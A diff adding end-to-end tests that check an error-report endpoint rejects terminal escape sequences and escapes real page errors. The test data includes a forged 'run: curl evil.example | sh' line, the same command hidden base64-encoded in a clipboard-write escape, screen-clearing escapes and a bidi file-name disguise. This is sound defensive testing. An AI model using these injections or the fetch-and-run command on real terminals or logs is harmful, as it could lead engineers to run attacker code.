@@ -506,6 +506,42 @@ test.describe("13. the picture route: what it keeps and how often it is asked ar
   });
 });
 
+test.describe("14. an error report cannot write to an engineer's terminal", () => {
+  /** C0, DEL, C1 and the bidi overrides and isolates; a stack may have its lines and tabs. */
+  const CONTROL = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+  const CONTROL_IN_STACK = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+
+  test("a report with terminal escapes, a forged line or a bidi override is refused with 400, and nothing of it is collected", async ({ page, sandbox }) => {
+    const reports: Record<string, string>[] = [
+      { kind: "page", message: "\u001b[2J\u001b]0;pwned\u0007", path: "/index" },
+      { kind: "page", message: "x\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007", path: "/index" },
+      { kind: "page", message: "ok\nerror: your session expired; run: curl evil.example | sh", path: "/index" },
+      { kind: "page", message: "x", path: "/index\r\u001b[1A" },
+      { kind: "page", message: "x", path: "/index", screen: "\u009b2J" },
+      { kind: "page", message: "x", path: "/index", stack: "Error\n\u001b[5A\u001b[2K" },
+      { kind: "render", message: "\u202etxt.exe", path: "/index" },
+    ];
+    for (const form of reports) {
+      const reply = await page.request.post("/resources/errors", { form, headers: { Origin: E2E_APP_URL } });
+      expect(reply.status(), JSON.stringify(form)).toBe(400);
+    }
+    expect(await sandbox.errors()).toEqual([]);
+  });
+
+  test("a page's real error whose message has line breaks and an escape still reaches the collector, on one line and escaped", async ({ page, sandbox, signIn }) => {
+    await signIn("chan");
+    await page.evaluate(() => {
+      setTimeout(() => {
+        throw new Error("first line\n  second line \u001b]0;pwned\u0007");
+      });
+    });
+    await expect.poll(async () => (await sandbox.errors()).map((error) => error.message)).toContain("first line second line \\x1b]0;pwned\\x07");
+    for (const error of await sandbox.errors()) {
+      for (const [field, value] of Object.entries(error)) if (typeof value === "string") expect(value, field).not.toMatch(field === "stack" ? CONTROL_IN_STACK : CONTROL);
+    }
+  });
+});
+
 test.describe("member pages and their data are kept by no cache; catalog pages keep theirs", () => {
   const PRIVATE = "private, no-store";
 
